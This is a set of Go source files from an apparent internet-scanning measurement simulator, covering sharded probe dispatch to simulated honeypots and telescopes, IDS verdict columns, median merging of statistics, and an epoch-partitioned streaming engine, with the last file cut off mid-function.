	out.AS = medianMerge(viewTables(views, func(v *View) stats.Freq { return v.AS }))
	out.Usernames = medianMerge(viewTables(views, func(v *View) stats.Freq { return v.Usernames }))
	out.Passwords = medianMerge(viewTables(views, func(v *View) stats.Freq { return v.Passwords }))
	out.Payloads = medianMerge(viewTables(views, func(v *View) stats.Freq { return v.Payloads }))
	var mal, tot []float64
	for _, v := range views {
		mal = append(mal, v.Malicious)
		tot = append(tot, v.Total)
		for src := range v.Srcs {
			out.Srcs[src] = struct{}{}
		}
		for src := range v.MalSrcs {
			out.MalSrcs[src] = struct{}{}
		}
		for h := range v.Hourly {
			out.Hourly[h] += v.Hourly[h]
			out.MalHourly[h] += v.MalHourly[h]
		}
	}
	out.Malicious = stats.Median(mal)
	out.Total = stats.Median(tot)
	out.Benign = out.Total - out.Malicious
	return out
}

func viewTables(views []*View, get func(*View) stats.Freq) []stats.Freq {
	out := make([]stats.Freq, len(views))
	for i, v := range views {
		out[i] = get(v)
	}
	return out
}

// medianMerge computes the per-key median count across tables,
// counting absent keys as zero, then drops zero-median keys. One
// scratch buffer is reused across keys, so the merge allocates no
// per-key slices.
func medianMerge(tables []stats.Freq) stats.Freq {
	keys := map[string]struct{}{}
	for _, t := range tables {
		for k := range t {
			keys[k] = struct{}{}
		}
	}
	out := stats.Freq{}
	scratch := make([]float64, len(tables))
	for k := range keys {
		for i, t := range tables {
			scratch[i] = t[k]
		}
		if m := stats.MedianInPlace(scratch); m > 0 {
			out[k] = m
		}
	}
	return out
}
