package core

import (
	"runtime"
	"sync"
	"sync/atomic"

	"cloudwatch/internal/greynoise"
	"cloudwatch/internal/honeypot"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/scanners"
	"cloudwatch/internal/telescope"
	"cloudwatch/internal/wire"
)

// shard is one worker's private slice of the study pipeline: its own
// telescope collector, GreyNoise delta, and record block. Workers
// never share mutable state; everything a shard accumulates is either
// a set union or an integer-count sum, so the post-run merge reaches
// the same state as serial dispatch regardless of how actors were
// scheduled across workers.
//
// Records are born columnar: dispatch appends the probe's scalar
// columns (interned vantage id, study seconds, interned payload id,
// credential-arena index) in one pass. The §3.2 verdict column is
// filled by the merge (see mergeShards), which anchors each payload's
// verdict at its first occurrence in canonical record order — the
// exact verdict serial dispatch memoized — so the result is
// byte-identical for every worker count. (Keying the memo per shard,
// as the pre-columnar pipeline did, made worker scheduling leak into
// the output whenever a payload's verdict differed across destination
// ports.)
type shard struct {
	dc     dstCache
	window int32 // drop probes at study-second >= window (0 = keep all)
	tel    *telescope.Collector
	gn     *greynoise.Delta
	blk    netsim.RecordBlock
}

// dstCache memoizes the per-destination routing decision — telescope
// membership and the target lookup — across the runs of probes the
// attempt and port loops emit to one address. Shared by the batch
// shard and the streaming engine's epoch shards.
type dstCache struct {
	u          *netsim.Universe
	lastDst    wire.Addr
	lastDstOK  bool
	lastTel    bool
	lastTarget *netsim.Target
	lastVi     int32
}

// resolve classifies a probe's destination: telescope space, a
// monitored target (with its interned vantage id), or unmonitored
// space (tel=false, t=nil).
func (c *dstCache) resolve(dst wire.Addr) (tel bool, t *netsim.Target, vi int32) {
	if !c.lastDstOK || dst != c.lastDst {
		c.lastDst, c.lastDstOK = dst, true
		c.lastTel = c.u.InTelescope(dst)
		c.lastTarget, c.lastVi = nil, 0
		if !c.lastTel {
			c.lastTarget, c.lastVi, _ = c.u.ByIPIndexed(dst)
		}
	}
	return c.lastTel, c.lastTarget, c.lastVi
}

func newShard(s *Study) *shard {
	return &shard{
		dc:     dstCache{u: s.U},
		window: s.Cfg.WindowSec,
		tel:    telescope.New(s.Cfg.TelescopeWatch...),
		gn:     greynoise.NewDelta(),
	}
}

// dispatch routes one probe to the shard's collectors — the parallel
// counterpart of the serial per-probe pipeline: telescope probes are
// aggregated in place, honeypot probes become record-column rows, and
// every collected source feeds the GreyNoise delta. Probes outside a
// truncation window vanish before any collector sees them.
//
// The probe is borrowed for the duration of the call (the generators
// reuse one probe variable per scan — see scanners.Actor.Run); dispatch
// copies every field it keeps into columns, so nothing here retains p.
func (sh *shard) dispatch(p *netsim.Probe) {
	if sh.window > 0 {
		if sec, _ := netsim.StudySeconds(p.T); sec >= sh.window {
			return
		}
	}
	tel, t, vi := sh.dc.resolve(p.Dst)
	if tel {
		sh.tel.Observe(p)
		sh.gn.Observe(p.Src)
		return
	}
	if t == nil {
		return // probe to unmonitored space: invisible to the study
	}
	pay, creds, ok := honeypot.Collect(t, p)
	if !ok {
		return
	}
	sh.gn.Observe(p.Src)
	sh.blk.Append(vi, p, pay, creds)
}

// span is the record range one actor produced within its shard's
// block.
type span struct {
	sh     *shard
	lo, hi int
}

// runActors drives the actor population through `workers` pipeline
// workers and merges the shards into the study in canonical order.
// Each actor draws from its own seeded random streams and runs on
// exactly one worker, so its probe sequence — and therefore its record
// range — is independent of scheduling. Record columns are reassembled
// actor-major (the order the serial loop produced) and telescope and
// GreyNoise shards merge commutatively, so the result is
// byte-identical for every worker count.
func (s *Study) runActors(ctx *scanners.Context, workers int) {
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > len(s.Actors) {
		workers = len(s.Actors)
	}
	if workers < 1 {
		workers = 1
	}

	spans := make([]span, len(s.Actors))
	shards := make([]*shard, workers)
	var next atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		sh := newShard(s)
		shards[w] = sh
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1)) - 1
				if i >= len(s.Actors) {
					return
				}
				lo := sh.blk.Len()
				s.Actors[i].Run(ctx, sh.dispatch)
				spans[i] = span{sh, lo, sh.blk.Len()}
			}
		}()
	}
	wg.Wait()
	s.mergeShards(shards, spans)
}

// mergeShards reassembles the per-shard columns into the study in
// canonical actor order and finalizes every derived column — verdict,
// per-payload facts, per-vantage record lists — so the derived index
// is complete when Run returns, with no post-hoc scan of the records.
func (s *Study) mergeShards(shards []*shard, spans []span) {
	total := 0
	for _, sp := range spans {
		total += sp.hi - sp.lo
	}

	if len(shards) == 1 {
		// Serial pipeline: the single shard's block already is the
		// canonical actor-major order — adopt it without copying.
		s.blk = shards[0].blk
		shards[0].blk = netsim.RecordBlock{}
	} else {
		// Credential arenas concatenate in shard order; each shard's
		// record columns rebase their arena indexes by its offset.
		credBase := make(map[*shard]int32, len(shards))
		credTotal := 0
		for _, sh := range shards {
			credBase[sh] = int32(credTotal)
			credTotal += len(sh.blk.CredLists)
		}

		s.blk.Grow(total)
		s.blk.CredLists = make([][]netsim.Credential, 0, credTotal)
		for _, sh := range shards {
			s.blk.CredLists = append(s.blk.CredLists, sh.blk.CredLists...)
		}
		for _, sp := range spans {
			s.blk.AppendRange(&sp.sh.blk, sp.lo, sp.hi, credBase[sp.sh])
		}
	}

	for _, sh := range shards {
		s.Tel.Merge(sh.tel)
		s.GN.MergeDelta(sh.gn)
	}

	s.buildVerdicts()
	s.buildDerived(netsim.PayloadCount())
}

// buildVerdicts computes the §3.2 verdict column. Each distinct
// payload is judged exactly once per study, against the transport and
// port of its first occurrence in canonical record order — precisely
// the verdict the serial pipeline's payload-keyed memo captured — and
// every record carrying the payload inherits it. Credential records
// are malicious by definition; payloadless records are benign. The
// sources of malicious records feed the GreyNoise exploit set here
// (the serial pipeline did it inline at dispatch; doing it after the
// canonical verdicts are fixed keeps the exploit set
// schedule-independent too).
func (s *Study) buildVerdicts() {
	n := s.blk.Len()
	payCount := netsim.PayloadCount()

	// First occurrence of each payload in canonical order, counting
	// only credential-free records: the serial memo this reproduces was
	// consulted after the creds short-circuit, so a record carrying
	// both a payload and credentials (EmulateAuth collectors) never
	// anchored a verdict.
	firstRec := make([]int32, payCount)
	for i := range firstRec {
		firstRec[i] = -1
	}
	var distinct []netsim.PayloadID
	for i := 0; i < n; i++ {
		if s.blk.Cred[i] >= 0 {
			continue
		}
		if pay := s.blk.Pay[i]; pay != 0 && firstRec[pay] < 0 {
			firstRec[pay] = int32(i)
			distinct = append(distinct, pay)
		}
	}

	// Judge each distinct payload in parallel: the verdict is a pure
	// function of (payload, anchor transport, anchor port), so the
	// fan-out is order-independent.
	s.malByPay = make([]int8, payCount)
	for i := range s.malByPay {
		s.malByPay[i] = -1
	}
	parallelEach(len(distinct), func(k int) {
		pay := distinct[k]
		ri := firstRec[pay]
		v := int8(0)
		if s.IDS.Malicious(s.blk.Transport[ri].String(), s.blk.Port[ri], netsim.PayloadBytes(pay)) {
			v = 1
		}
		s.malByPay[pay] = v
	})

	// Fill the verdict column and the exploit set, in parallel chunks
	// with per-chunk GreyNoise deltas (set unions commute).
	s.mal = make([]bool, n)
	chunks := (n + verdictChunk - 1) / verdictChunk
	var gnMu sync.Mutex
	parallelEach(chunks, func(c int) {
		lo, hi := c*verdictChunk, (c+1)*verdictChunk
		if hi > n {
			hi = n
		}
		d := greynoise.NewDelta()
		for i := lo; i < hi; i++ {
			m := s.blk.Cred[i] >= 0
			if !m {
				if pay := s.blk.Pay[i]; pay != 0 {
					m = s.malByPay[pay] == 1
				}
			}
			if m {
				s.mal[i] = true
				d.ObserveExploit(s.blk.Src[i])
			}
		}
		gnMu.Lock()
		s.GN.MergeDelta(d)
		gnMu.Unlock()
	})
}

// verdictChunk is the number of records per parallel verdict-fill
// chunk: large enough to amortize a chunk's GreyNoise delta, small
// enough to load-balance.
const verdictChunk = 65536

// parallelEach runs fn(i) for every i in [0, n) across up to
// GOMAXPROCS goroutines and waits for completion. fn must be safe to
// call concurrently for distinct i. Used to fan out the read side of
// the pipeline (per-vantage record and view building).
func parallelEach(n int, fn func(int)) {
	workers := runtime.GOMAXPROCS(0)
	if workers > n {
		workers = n
	}
	if workers <= 1 {
		for i := 0; i < n; i++ {
			fn(i)
		}
		return
	}
	var next atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1)) - 1
				if i >= n {
					return
				}
				fn(i)
			}
		}()
	}
	wg.Wait()
}
