package core

import (
	"runtime"
	"sync"
	"sync/atomic"

	"cloudwatch/internal/greynoise"
	"cloudwatch/internal/ids"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/scanners"
	"cloudwatch/internal/telescope"
)

// shard is one worker's private slice of the study pipeline: its own
// telescope collector, GreyNoise delta, and IDS verdict memo, plus the
// record buffer of the actor currently being replayed. Workers never
// share mutable state; everything a shard accumulates is either a set
// union or an integer-count sum, so the post-run merge reaches the
// same state as serial dispatch regardless of how actors were
// scheduled across workers.
type shard struct {
	u    *netsim.Universe
	ids  *ids.Engine
	tel  *telescope.Collector
	gn   *greynoise.Service
	mem  map[string]bool // payload-keyed IDS verdicts
	recs []netsim.Record // records of the actor being processed
}

func newShard(s *Study) *shard {
	return &shard{
		u:   s.U,
		ids: s.IDS,
		tel: telescope.New(s.Cfg.TelescopeWatch...),
		gn:  greynoise.NewService(),
		mem: map[string]bool{},
	}
}

// dispatch routes one probe to the shard's collectors — the parallel
// counterpart of the serial per-probe pipeline: telescope probes are
// aggregated in place, honeypot probes become records, and every
// collected source feeds the GreyNoise delta.
func (sh *shard) dispatch(p netsim.Probe) {
	if sh.u.InTelescope(p.Dst) {
		sh.tel.Observe(p)
		sh.gn.Observe(p.Src)
		return
	}
	t, ok := sh.u.ByIP(p.Dst)
	if !ok {
		return // probe to unmonitored space: invisible to the study
	}
	rec, ok := honeypotObserve(t, p)
	if !ok {
		return
	}
	sh.gn.Observe(p.Src)
	if sh.malicious(rec) {
		sh.gn.ObserveExploit(p.Src)
	}
	sh.recs = append(sh.recs, rec)
}

// malicious applies the §3.2 verdict (maliciousRecord) with the
// shard-local memo. The verdict is a pure function of the payload, so
// shards computing the same payload independently always agree.
func (sh *shard) malicious(rec netsim.Record) bool {
	if len(rec.Creds) > 0 || len(rec.Payload) == 0 {
		return maliciousRecord(sh.ids, rec)
	}
	key := string(rec.Payload)
	if v, ok := sh.mem[key]; ok {
		return v
	}
	v := maliciousRecord(sh.ids, rec)
	sh.mem[key] = v
	return v
}

// runActors drives the actor population through `workers` pipeline
// workers and merges the shards into the study in canonical order.
// Each actor draws from its own seeded random streams and runs on
// exactly one worker, so its probe sequence — and therefore its record
// list — is independent of scheduling. Records are reassembled
// actor-major (the order the serial loop produced), telescope and
// GreyNoise shards merge commutatively, and the IDS memos union, so
// the result is byte-identical for every worker count.
func (s *Study) runActors(ctx *scanners.Context, workers int) {
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > len(s.Actors) {
		workers = len(s.Actors)
	}
	if workers < 1 {
		workers = 1
	}

	perActor := make([][]netsim.Record, len(s.Actors))
	shards := make([]*shard, workers)
	var next atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		sh := newShard(s)
		shards[w] = sh
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1)) - 1
				if i >= len(s.Actors) {
					return
				}
				sh.recs = nil
				s.Actors[i].Run(ctx, sh.dispatch)
				perActor[i] = sh.recs
			}
		}()
	}
	wg.Wait()

	total := 0
	for _, recs := range perActor {
		total += len(recs)
	}
	s.Records = make([]netsim.Record, 0, total)
	for _, recs := range perActor {
		for _, rec := range recs {
			s.byVantage[rec.Vantage] = append(s.byVantage[rec.Vantage], len(s.Records))
			s.Records = append(s.Records, rec)
		}
	}
	for _, sh := range shards {
		s.Tel.Merge(sh.tel)
		s.GN.Merge(sh.gn)
		for k, v := range sh.mem {
			s.maliciousMem[k] = v
		}
	}
}

// parallelEach runs fn(i) for every i in [0, n) across up to
// GOMAXPROCS goroutines and waits for completion. fn must be safe to
// call concurrently for distinct i. Used to fan out the read side of
// the pipeline (per-vantage record and view building).
func parallelEach(n int, fn func(int)) {
	workers := runtime.GOMAXPROCS(0)
	if workers > n {
		workers = n
	}
	if workers <= 1 {
		for i := 0; i < n; i++ {
			fn(i)
		}
		return
	}
	var next atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1)) - 1
				if i >= n {
					return
				}
				fn(i)
			}
		}()
	}
	wg.Wait()
}
