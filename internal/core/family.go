package core

import (
	"sync"

	"cloudwatch/internal/stats"
)

// This file is the batched §3.3 family runner: every experiment that
// compares vantage (or group) views pairwise — Tables 2/4/5/7/10 and
// the ablations — declares its family (sides + canonical pair order)
// and gets back the full comparison family, computed through the
// stats.BatchSet engine, sharded across workers in canonical pair
// order, and memoized per (family, slice, characteristic, K) so
// repeat analyses (appendix reruns, ablations sharing Table 2's
// neighborhoods, steady-state benchmarks) reuse the finished family.

// famSide is one comparison side of a family: the prepared top-K
// table for the family's characteristic plus the binary
// malicious/benign split used by CharFracMalicious.
type famSide struct {
	sum           stats.TableSummary
	mal, ben, tot float64
}

// famJob is a fully-specified family: sides in canonical order, the
// pair list as indexes into sides in canonical comparison order, and
// one label per pair.
type famJob struct {
	sides  []famSide
	pairs  [][2]int
	labels []string
}

// familyResult is a finished family plus the per-pair contingency
// stats the top-K ablation reads: union width and near-zero cells,
// recorded for testable pairs (width > 0 iff the pair was testable on
// a top-K characteristic). Results are shared across callers and must
// be treated as read-only.
type familyResult struct {
	fam   *Family
	width []int
	zeros []int
}

// famKey identifies one memoized family.
type famKey struct {
	name  string
	slice ProtocolSlice
	char  Characteristic
	k     int
}

// famEntry is one family cache slot; the per-entry once lets distinct
// families build in parallel while each builds exactly once.
type famEntry struct {
	once sync.Once
	res  *familyResult
}

// pairwiseFamily returns the memoized comparison family for
// (name, slice, char, k), building it at most once via build. The
// build callback only runs on a cache miss, so callers must derive
// per-pair metadata (region refs, geo groups) from the same canonical
// order they would hand to the builder, not from builder side effects.
func (s *Study) pairwiseFamily(name string, slice ProtocolSlice, char Characteristic, k int, build func() famJob) *familyResult {
	key := famKey{name, slice, char, k}
	s.famMu.Lock()
	if s.famCache == nil {
		s.famCache = map[famKey]*famEntry{}
	}
	e, ok := s.famCache[key]
	if !ok {
		e = &famEntry{}
		s.famCache[key] = e
	}
	s.famMu.Unlock()
	e.once.Do(func() { e.res = runFamily(build(), char, k) })
	return e.res
}

// famChunk is the number of pairs one worker processes per scratch
// comparer: large enough to amortize the comparer's buffers, small
// enough to load-balance families of a few hundred pairs.
const famChunk = 64

// runFamily executes a family job: a shared BatchSet for the whole
// family (categories interned once, each side's top-K ranked once),
// pair comparisons fanned out across workers in canonical order with
// per-worker scratch. Every PairResult equals what the naive per-pair
// Compare/CompareTopK loop produces.
func runFamily(job famJob, char Characteristic, k int) *familyResult {
	n := len(job.pairs)
	res := &familyResult{
		fam:   &Family{Pairs: make([]PairResult, n)},
		width: make([]int, n),
		zeros: make([]int, n),
	}
	if char == CharFracMalicious {
		parallelEach(n, func(i int) {
			p := job.pairs[i]
			res.fam.Pairs[i] = binaryPair(job.labels[i], job.sides[p[0]], job.sides[p[1]])
		})
		return res
	}

	sums := make([]stats.TableSummary, len(job.sides))
	for i, side := range job.sides {
		sums[i] = side.sum
	}
	set := stats.NewBatchSet(k, sums)
	chunks := (n + famChunk - 1) / famChunk
	parallelEach(chunks, func(c int) {
		lo, hi := c*famChunk, (c+1)*famChunk
		if hi > n {
			hi = n
		}
		pc := set.Comparer()
		for i := lo; i < hi; i++ {
			p := job.pairs[i]
			pr := PairResult{Label: job.labels[i]}
			if set.Total(p[0]) == 0 || set.Total(p[1]) == 0 {
				res.fam.Pairs[i] = pr // untestable (ErrNoData in the naive path)
				continue
			}
			r, w, z, err := pc.CompareCounted(p[0], p[1])
			pr.Result, pr.OK = r, err == nil
			res.fam.Pairs[i] = pr
			res.width[i], res.zeros[i] = w, z
		}
	})
	return res
}

// binaryPair wraps compareFracMalicious — Compare's CharFracMalicious
// path — as one family pair result.
func binaryPair(label string, a, b famSide) PairResult {
	r, err := compareFracMalicious(a.mal, a.ben, a.tot, b.mal, b.ben, b.tot)
	return PairResult{Label: label, Result: r, OK: err == nil}
}

// viewSide prepares one view as a family side for a characteristic.
func (s *Study) viewSide(v *View, char Characteristic) famSide {
	side := famSide{mal: v.Malicious, ben: v.Benign, tot: v.Total}
	if char != CharFracMalicious {
		side.sum = s.viewSummary(v, char)
	}
	return side
}

// viewSides prepares several views, preserving order.
func (s *Study) viewSides(views []*View, char Characteristic) []famSide {
	sides := make([]famSide, len(views))
	for i, v := range views {
		sides[i] = s.viewSide(v, char)
	}
	return sides
}

// freqFor selects a view's frequency table for a top-K
// characteristic.
func freqFor(v *View, char Characteristic) stats.Freq {
	switch char {
	case CharTopAS:
		return v.AS
	case CharTopUsernames:
		return v.Usernames
	case CharTopPasswords:
		return v.Passwords
	case CharTopPayloads:
		return v.Payloads
	default:
		return nil
	}
}

// regionPairJob builds a family job from region-name pairs: each
// distinct region becomes one side (its view fetched via group once,
// in first-appearance order), pairs index into those sides, and
// labels read "a vs b".
func regionPairJob(s *Study, pairs [][2]string, char Characteristic, group func(region string) *View) famJob {
	idx := map[string]int{}
	var views []*View
	sideOf := func(region string) int {
		i, ok := idx[region]
		if !ok {
			i = len(views)
			idx[region] = i
			views = append(views, group(region))
		}
		return i
	}
	job := famJob{}
	for _, p := range pairs {
		a, b := sideOf(p[0]), sideOf(p[1])
		job.pairs = append(job.pairs, [2]int{a, b})
		job.labels = append(job.labels, p[0]+" vs "+p[1])
	}
	job.sides = s.viewSides(views, char)
	return job
}

// summKey identifies one memoized view summary.
type summKey struct {
	view *View
	char Characteristic
}

// summEntry is one summary cache slot.
type summEntry struct {
	once sync.Once
	sum  stats.TableSummary
}

// viewSummary returns the memoized TableSummary of one view's
// characteristic table: the table ranked and totaled exactly once per
// (view, characteristic), no matter how many families compare it. The
// cache lives beside the view cache (views are memoized per
// (vantage|region, slice), so the pointer is a stable identity) rather
// than on the View itself, keeping views plain data.
func (s *Study) viewSummary(v *View, char Characteristic) stats.TableSummary {
	key := summKey{v, char}
	s.summMu.Lock()
	if s.summCache == nil {
		s.summCache = map[summKey]*summEntry{}
	}
	e, ok := s.summCache[key]
	if !ok {
		e = &summEntry{}
		s.summCache[key] = e
	}
	s.summMu.Unlock()
	e.once.Do(func() { e.sum = stats.Summarize(freqFor(v, char)) })
	return e.sum
}
