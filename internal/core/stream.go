package core

import (
	"fmt"
	"math"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"cloudwatch/internal/cloud"
	"cloudwatch/internal/greynoise"
	"cloudwatch/internal/honeypot"
	"cloudwatch/internal/ids"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/obs"
	"cloudwatch/internal/scanners"
	"cloudwatch/internal/searchengine"
	"cloudwatch/internal/telescope"
	"cloudwatch/internal/wire"
)

// This file is the generation side of the streaming study engine: the
// study week is partitioned into time epochs, the existing sharded
// generators run once, and every probe lands in the per-epoch sink its
// timestamp belongs to — per-epoch record columns, telescope
// collectors, and GreyNoise deltas. Prefix snapshots (Snapshot)
// reassemble the first p epochs into a full *Study that is
// byte-identical to a batch Run truncated at the epoch boundary
// (Config.WindowSec), so every table, figure, and ablation renders on
// a snapshot unchanged. internal/stream layers the ingestion loop, the
// K/prefix sweep engine, and the HTTP server on top.

// epochSink is one (worker, epoch) cell of the partitioned pipeline:
// the records, telescope aggregation, and GreyNoise delta of the
// probes one worker routed into one epoch. seq is the per-actor
// emission index of each record — the key the snapshot merge uses to
// restore an actor's emission order across epochs.
type epochSink struct {
	tel *telescope.Collector
	gn  *greynoise.Delta
	blk netsim.RecordBlock
	seq []int32
}

// actorRuns locates one actor's records inside its worker's epoch
// sinks: the [lo, hi) record range per epoch. An actor runs on exactly
// one worker, so all of its epoch runs live in one sink set.
type actorRuns struct {
	sinks  []*epochSink
	lo, hi []int32
}

// streamShard is the epoch-routing counterpart of shard: one worker's
// view of the partitioned pipeline. Each probe resolves its
// destination through the shared dstCache, then lands in the sink of
// the epoch its timestamp falls in. The worker's sink blocks share one
// chunked column arena and are pre-sized from the scenario's emission
// estimate, so 8× epoch partitioning no longer multiplies column
// allocations and growth zeroing.
type streamShard struct {
	dc    dstCache
	eb    netsim.Epochs
	sinks []*epochSink
	seq   int32 // per-actor emission counter, reset at actor start

	// Per-source GreyNoise dedup, hoisted out of the sinks: actors emit
	// long same-source probe runs, but with timestamps routing probes
	// round-robin across epoch sinks the per-Delta last-source
	// short-circuit almost never fires, degenerating gn.Observe into a
	// map insert per probe. The shard instead tracks which epoch sinks
	// have already seen the current source run (a bitmask for studies
	// of ≤64 epochs) and skips the Delta call entirely. Observe is a
	// set insert, so skipping duplicates is observation-equivalent.
	gnSrc  wire.Addr
	gnOK   bool
	gnMask uint64

	// Telescope run dedup, hoisted the same way: within one
	// (port, src) emission run the unique-source set insert is
	// idempotent per epoch collector, and within one (port, src, dst)
	// run the watch-log pair append is skip-safe per epoch log (a
	// skipped pair is always already in that log). The masks track
	// which epoch collectors have seen the current run, so the per-epoch
	// collectors skip their map inserts and log appends without any
	// per-probe map work. Packet and AS-frequency counting still happen
	// per probe (see telescope.Collector.ObserveRun).
	telPort  uint16
	telSrc   wire.Addr
	telDst   wire.Addr
	telOK    bool
	srcMask  uint64
	pairMask uint64
}

// observeGN records p.Src as seen in epoch e's GreyNoise delta,
// short-circuiting repeats within one source run.
func (sh *streamShard) observeGN(sink *epochSink, e int, src wire.Addr) {
	if !sh.gnOK || src != sh.gnSrc {
		sh.gnSrc, sh.gnOK = src, true
		sh.gnMask = 0
	}
	if e < 64 {
		if bit := uint64(1) << e; sh.gnMask&bit == 0 {
			sh.gnMask |= bit
			sink.gn.Observe(src)
		}
		return
	}
	sink.gn.Observe(src)
}

// dispatch routes one probe: telescope probes aggregate into the
// collector of their epoch (with run-level dedup of the set inserts and
// watch-log appends), honeypot probes append to the record block of
// their epoch's sink. Like the batch dispatch, the probe is borrowed
// only for the duration of the call.
func (sh *streamShard) dispatch(p *netsim.Probe) {
	sec, nsec := netsim.StudySeconds(p.T)
	e := sh.eb.EpochOf(sec)
	sink := sh.sinks[e]
	tel, t, vi := sh.dc.resolve(p.Dst)
	if tel {
		if p.Port != sh.telPort || p.Src != sh.telSrc || !sh.telOK {
			sh.telPort, sh.telSrc, sh.telOK = p.Port, p.Src, true
			sh.telDst = p.Dst
			sh.srcMask, sh.pairMask = 0, 0
		} else if p.Dst != sh.telDst {
			sh.telDst = p.Dst
			sh.pairMask = 0
		}
		if e < 64 {
			bit := uint64(1) << e
			sink.tel.ObserveRun(p, sh.srcMask&bit == 0, sh.pairMask&bit == 0)
			sh.srcMask |= bit
			sh.pairMask |= bit
		} else {
			sink.tel.Observe(p)
		}
		sh.observeGN(sink, e, p.Src)
		return
	}
	if t == nil {
		return
	}
	pay, creds, ok := honeypot.Collect(t, p)
	if !ok {
		return
	}
	sh.observeGN(sink, e, p.Src)
	sink.blk.AppendAt(vi, sec, nsec, p, pay, creds)
	sink.seq = append(sink.seq, sh.seq)
	sh.seq++
}

// EpochSet is the generated, epoch-partitioned raw material of one
// study: everything needed to assemble a prefix snapshot for any
// number of ingested epochs. It is immutable once GenerateEpochs
// returns; Snapshot may be called concurrently.
type EpochSet struct {
	cfg    Config
	eb     netsim.Epochs
	u      *netsim.Universe
	censys *searchengine.Engine
	shodan *searchengine.Engine
	actors []*scanners.Actor

	sinks [][]*epochSink // per worker, per epoch
	runs  []actorRuns    // per actor, canonical order
}

// GenerateEpochs builds the deployment, crawls the search engines, and
// runs the actor population once through the sharded pipeline with
// every probe routed into the per-epoch sink of its timestamp. The
// result feeds prefix snapshots; epochs < 1 is treated as 1.
// Config.WindowSec must be zero — truncation is what snapshots are
// for.
func GenerateEpochs(cfg Config, epochs int) (*EpochSet, error) {
	es, ctx, err := newEpochSet(cfg, epochs)
	if err != nil {
		return nil, err
	}
	sp := obs.StartStage(obs.StageEpochGeneration)
	es.runActors(ctx, es.cfg.Workers)
	sp.End()
	mRecordsGenerated.Add(int64(es.NumRecords()))
	return es, nil
}

// newEpochSet builds everything of an epoch-partitioned study that is
// deterministic from the configuration alone — deployment, universe,
// search-engine crawls, actor population — and leaves the generated
// material empty. GenerateEpochs runs the actors to fill it;
// RestoreEpochSet installs persisted material instead, which is what
// lets a durable-store cold start skip generation entirely.
func newEpochSet(cfg Config, epochs int) (*EpochSet, *scanners.Context, error) {
	if cfg.WindowSec != 0 {
		return nil, nil, fmt.Errorf("core: WindowSec is incompatible with epoch streaming (prefix snapshots are the truncation mechanism)")
	}
	if cfg.Year == 0 {
		cfg.Year = 2021
	}
	cfg.Actors.Scenario = scanners.CanonicalScenario(cfg.Actors.Scenario)
	actors, err := scanners.PopulationFor(cfg.Actors)
	if err != nil {
		return nil, nil, fmt.Errorf("core: actor population: %w", err)
	}
	deployment, err := cloud.Build(cfg.Deploy)
	if err != nil {
		return nil, nil, fmt.Errorf("core: building deployment: %w", err)
	}
	u, err := deployment.Universe(cfg.Seed, cfg.Year)
	if err != nil {
		return nil, nil, fmt.Errorf("core: building universe: %w", err)
	}

	es := &EpochSet{
		cfg:    cfg,
		eb:     netsim.NewEpochs(epochs),
		u:      u,
		censys: searchengine.New("censys"),
		shodan: searchengine.New("shodan"),
	}
	crawlTime := netsim.StudyStart.Add(-24 * time.Hour)
	es.censys.Crawl(u, crawlTime)
	es.shodan.Crawl(u, crawlTime)

	es.actors = actors
	ctx := &scanners.Context{U: u, Censys: es.censys, Shodan: es.shodan, Seed: cfg.Seed, Year: cfg.Year}
	return es, ctx, nil
}

// runActors drives the population across workers exactly like the
// batch pipeline (each actor on one worker, its own seeded streams):
// every worker routes its probes into per-epoch sinks whose record
// blocks share one per-worker chunked column arena and are pre-sized
// from the scenario's emission estimate, so the hot path appends
// without geometric reallocation. Append order within a sink is the
// dispatch order of the batch pipeline, so the generated material is
// byte-identical to a direct per-probe routing.
func (es *EpochSet) runActors(ctx *scanners.Context, workers int) {
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > len(es.actors) {
		workers = len(es.actors)
	}
	if workers < 1 {
		workers = 1
	}
	nEpochs := es.eb.NumEpochs()
	es.sinks = make([][]*epochSink, workers)
	es.runs = make([]actorRuns, len(es.actors))

	// Pre-size each worker's sinks from a sampled estimate of the
	// scenario's emission volume: count the emissions that resolve to a
	// monitored target (the telescope share never lands in a record
	// block). Work stealing skews per-worker shares and epochs are not
	// uniform, so leave headroom; a sink that outgrows its slice still
	// appends cheaply through the worker's shared arena.
	estDC := dstCache{u: es.u}
	est := scanners.EstimateEmission(ctx, es.actors, func(p *netsim.Probe) bool {
		tel, t, _ := estDC.resolve(p.Dst)
		return !tel && t != nil
	})
	// 50% slack: it absorbs both the diurnal skew across epochs and the
	// downward bias of the actor-strided estimate on heavy-tailed
	// populations, and idle capacity in pointer-free columns costs
	// bytes, not GC scan work.
	perSink := est/(workers*nEpochs) + est/(2*workers*nEpochs) + 256

	var next atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		arena := netsim.NewColumnArena(perSink * nEpochs)
		sinks := make([]*epochSink, nEpochs)
		for e := range sinks {
			sink := &epochSink{
				tel: telescope.New(es.cfg.TelescopeWatch...),
				gn:  greynoise.NewDelta(),
				seq: make([]int32, 0, perSink),
			}
			sink.blk.UseArena(arena)
			sink.blk.Grow(perSink)
			sinks[e] = sink
		}
		es.sinks[w] = sinks
		sh := &streamShard{dc: dstCache{u: es.u}, eb: es.eb, sinks: sinks}
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1)) - 1
				if i >= len(es.actors) {
					break
				}
				run := actorRuns{sinks: sinks, lo: make([]int32, nEpochs), hi: make([]int32, nEpochs)}
				for e, sink := range sinks {
					run.lo[e] = int32(sink.blk.Len())
				}
				sh.seq = 0
				es.actors[i].Run(ctx, sh.dispatch)
